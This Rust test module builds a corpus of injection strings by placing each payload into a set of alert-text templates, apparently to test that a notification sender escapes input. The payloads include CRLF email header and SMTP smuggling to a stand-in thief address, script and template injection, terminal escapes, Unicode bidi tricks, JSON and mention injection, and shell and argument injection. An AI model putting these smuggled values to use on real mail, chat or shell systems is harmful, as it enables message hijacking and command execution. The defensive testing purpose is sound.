//! Texts that want to be something else: a header, a recipient, a mention, a link. Made from two small tables, so that
//! every kind of attack meets every place in a sentence. For tests only.

/// What is smuggled in.
const PAYLOADS: &[&str] = &[
    "\r\nBcc: thief@evil.example",
    "\nBcc: thief@evil.example\n\nnew body",
    "\rTo: thief@evil.example",
    "\r\n\r\n<html><script>alert(1)</script>",
    "\u{85}Bcc: thief@evil.example",
    "\u{2028}Cc: thief@evil.example\u{2029}",
    "\u{b}Bcc: thief@evil.example\u{c}",
    "\0\0\0",
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "=?utf-8?B?QmNjOiB0aGllZkBldmlsLmV4YW1wbGU=?=",
    "=\u{1b}?utf-8?Q?=0D=0ABcc:_thief@evil.example?=",
    "=?ISO-2022-JP?B?GyRCJCIbKEI=?=",
    "\u{202e}elpmaxe.live@feiht\u{202c}",
    "a\u{200b}b\u{feff}c\u{2066}d\u{2069}",
    "\" <thief@evil.example>, \"",
    "<thief@evil.example>",
    "thief@evil.example, more@evil.example",
    "\\\" \\",
    "(comment) ; group: a@evil.example;",
    "\r\n.\r\nMAIL FROM:<thief@evil.example>\r\n",
    "\n.\n",
    "<at>everyone</at>",
    "< AT id=\"0\">boss</aT>",
    "[click](https://evil.example/) ![i](https://evil.example/i.png)",
    "**bold** _it_ ~~gone~~ `code` # head > quote | cell",
    "{{7*7}} ${7*7} {% raw %} {{DATE(2026-09-20T00:00:00Z)}}",
    "\n- one\n1. two\n# three\n> four",
    "\",\"msteams\":{\"entities\":[]},\"x\":\"",
    "\u{d7ff}\u{fffd}\u{10ffff}\u{e0041}",
    "$(touch owned); `touch owned` | touch owned && touch owned > owned",
    "--help -o owned --to=thief@evil.example",
    "\nLD_PRELOAD=owned\nPATH=owned\n",
    "' \" ${HOME} $IFS %s%n \\x41 \\0101 ~ * ? !!",
    "\"}\n{\"id\":\"1\",\"text\":\"owned\"}\n",
    "髙﨑𠮷①Ⅰ㈱℡㍻ｶﾅ～－👨‍👩‍👧",
];

/// Where it stands; `%` is the place.
const PLACES: &[&str] = &[
    "%",
    "trigger % on srv-db01",
    "ディスク使用率%が高い",
    " %",
    "% ",
    "=%?",
    "\"%\"",
    "コア%%スイッチ",
    "長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列長い文字列%",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa%",
    "a b c d e f g h i j k l m n o p q r s t u v w x y z % a b c d e f g",
];

/// All of them.
pub(crate) fn texts() -> Vec<String> {
    PAYLOADS.iter().flat_map(|payload| PLACES.iter().map(move |place| place.replace('%', payload))).collect()
}

#[test]
fn the_corpus_is_large_enough() {
    assert!(texts().len() >= 300, "{}", texts().len());
}
